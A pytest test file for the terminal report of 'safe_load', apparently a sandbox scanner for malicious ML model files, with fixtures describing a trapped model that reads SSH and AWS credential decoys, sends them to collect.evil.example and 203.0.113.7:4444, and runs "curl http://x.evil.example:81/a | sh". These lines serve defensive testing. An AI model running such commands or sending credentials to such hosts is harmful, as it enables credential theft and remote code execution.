"""What the person at a terminal reads: the verdict first and last, each act once, and what to do."""

from __future__ import annotations

import re

import msgspec
import pytest
from safe_load.core.options import Progress
from safe_load.core.report import LeftAlone, Report, Reports
from safe_load.judge import behaviour
from safe_load.render import acts, progress, summary
from safe_load.render.human import Human
from safe_load.render.interface import View

from tests.unit import reports


def lines(*given: Report, width: int = 80, **view: bool) -> list[str]:
    return Human(View(width=width, **view)).render(given).decode().splitlines()


def told(*given: Report, **view: bool) -> str:
    """The words, without the line breaks of a terminal."""
    return " ".join(" ".join(lines(*given, **view)).split())


def test_a_trap_fits_on_a_screen_of_24_lines_and_80_columns() -> None:
    page = lines(reports.trapped())
    assert len(page) <= 24
    assert max(map(len, page)) <= 80


def test_the_verdict_comes_first_and_last_with_the_name_of_the_source() -> None:
    page = lines(reports.trapped())
    assert page[0].startswith("✗ malicious  models/trapped")
    assert page[-1] == "✗ malicious: models/trapped, rejected (exit 1)"


@pytest.mark.parametrize(
    "row",
    [
        r"0 ms +read +~/\.ssh/id_rsa +decoy +SL301 high",
        r"1 ms +read +~/\.aws/credentials +decoy +SL301 high",
        r"14 ms +asked +collect\.evil\.example .*sinkhole +SL202 medium",
        r"24 ms +sent +collect\.evil\.example:80 .*sinkhole +SL301 critical",
        r"30 ms +sent +203\.0\.113\.7:4444 .*sinkhole +SL301 critical",
        r"34 ms +run +/bin/sh -c 'touch canary; echo .*refused +SL101 high",
        r"35 ms +write +~/\.bashrc +append +refused +SL302 medium",
    ],
)
def test_each_act_is_one_row_with_what_the_wall_made_of_it(row: str) -> None:
    page = [line for line in lines(reports.trapped(), width=100) if re.search(row, line)]
    assert len(page) == 1


def test_the_cause_is_told_once_with_file_callable_and_byte() -> None:
    page = told(reports.trapped())
    assert page.count("13225") == 1
    assert (
        "pytorch_model.bin calls builtins.exec when it is opened (byte 13225 of x/data.pkl)" in page
    )


def test_a_payload_is_told_by_what_it_carried_and_its_bytes_come_on_demand() -> None:
    page = told(reports.trapped())
    assert "POST /up?h=localhost, 576 B with SSH key, AWS credentials, Hugging Face token" in (
        re.sub(r" sinkhole +SL301 critical( \+1)?", "", page)
    )
    assert "BEGIN OPENSSH" not in page
    assert "-----BEGIN OPENSSH" in told(reports.trapped(), verbose=True)


def test_the_first_sentences_say_what_was_stolen_and_the_last_what_to_do() -> None:
    page = told(reports.trapped())
    assert "It stole 3 credentials (decoys) and tried to send them to 2 addresses" in page
    assert "Nothing left this machine: the sandbox caught it. Nothing was exported." in page
    assert (
        "rotate the SSH key, AWS credentials and Hugging Face token of that machine and search its logs"
        in page
    )
    assert "logs for collect.evil.example and 203.0.113.7:4444" in page


def test_a_command_s_host_is_one_to_look_for() -> None:
    ran = acts.Act(0.1, "ran", "sh -c 'curl http://x.evil.example:81/a | sh'", "refused")
    assert summary.indicators([ran, ran]) == ["x.evil.example:81"]
    assert summary.hosts([ran]) == []  # nothing was sent there


def test_sources_that_run_together_have_a_line_each_and_one_for_all() -> None:
    with progress.Together(2, color=False) as together:
        with together.of("models/a\x1b[2J") as (show, end):
            everything, mine = together._display.tasks
            assert "\x1b" not in mine.fields["source"]
            show(Progress("extract", "start"))
            assert mine.description == progress.DOING["extract"]
            end("malicious")
        assert together._display.tasks == [everything]
        assert everything.fields["source"] == "1 of 2 sources"
        assert everything.description == "1 malicious"


def test_a_thousand_acts_are_counted_and_the_gravest_are_shown() -> None:
    few = reports.trapped()
    place = few.recording.events[-1]
    many = [
        msgspec.structs.replace(place, t=n / 1000, args={"path": f"/srv/{n}", "flags": "O_WRONLY"})
        for n in range(1000)
    ]
    base = len(few.recording.events)
    finding = msgspec.structs.replace(few.findings[-1], evidence=list(range(base, base + 1000)))
    recording = msgspec.structs.replace(few.recording, events=[*few.recording.events, *many])
    findings = [*few.findings, finding]
    page = lines(msgspec.structs.replace(few, recording=recording, findings=findings))
    assert len(page) <= 32
    assert any("SL101 high" in line for line in page)
    assert re.search(r"and \d{3} more", " ".join(page))


@pytest.mark.parametrize("report", [reports.trapped(), reports.hostile(), reports.malicious()])
def test_a_narrow_terminal_has_the_same_acts_one_below_the_other(report: Report) -> None:
    page = lines(report, width=40)
    assert max(map(len, page)) <= 40
    for act in acts.acts(report):
        if act.findings and len(act.short) < 30:
            assert act.wall in told(report)


def test_several_sources_come_worst_first_and_the_bad_names_again_at_the_end() -> None:
    given = [reports.clean(f"ok/{n}") for n in range(48)]
    page = lines(*given[:24], reports.not_loadable("cut"), *given[24:], reports.trapped("bad"))
    heads = [line for line in page if re.match(r"[✗!?✓] ", line)]
    assert heads[0].startswith("✗ malicious  bad")
    assert heads[1].startswith("? not loadable  cut")
    assert heads[2].startswith("✓ 48 clean")
    assert page[-3].startswith("50 sources: 48 clean")
    assert page[-2:] == ["rejected: bad", "not loadable: cut"]


def test_of_many_bad_sources_each_has_a_line_with_its_reason() -> None:
    page = lines(*(reports.trapped(f"bad/{n}") for n in range(30)), width=100)
    assert len(page) < 150
    for n in range(30):
        assert any(line.startswith(f"✗ malicious  bad/{n}") for line in page)
    assert sum("calls builtins.exec when it is opened" in line for line in page) == 30


def test_what_was_left_alone_is_counted_with_the_reason() -> None:
    given = Reports([reports.clean()], [LeftAlone("excluded by --exclude", 12)])
    page = Human(View(width=80)).render(given).decode()
    assert "12 files left alone: excluded by --exclude" in page


@pytest.mark.parametrize("ident", sorted(behaviour.RULES))
def test_every_finding_that_is_no_behaviour_has_an_advice(ident: str) -> None:
    assert ident[:3] in ("SL1", "SL2", "SL3", "SL4") or ident in summary.ADVICE


def test_a_callable_that_was_only_read_is_the_reason_and_told_once() -> None:
    report = reports.trapped()
    (read,) = (found for found in report.findings if found.id == "SL501")
    quiet = msgspec.structs.replace(
        report, findings=[read], egress=[], processes=[], decoys=[],
        recording=msgspec.structs.replace(report.recording, events=[]),
    )  # fmt: skip
    page = told(quiet)
    assert page.count("builtins.exec") == 1
    assert "treat that machine as compromised" in page
    assert "left this machine" not in page


def test_a_clean_source_is_told_without_acts_or_advice() -> None:
    page = told(reports.clean())
    assert "What to do" not in page
    assert page.startswith("✓ clean")
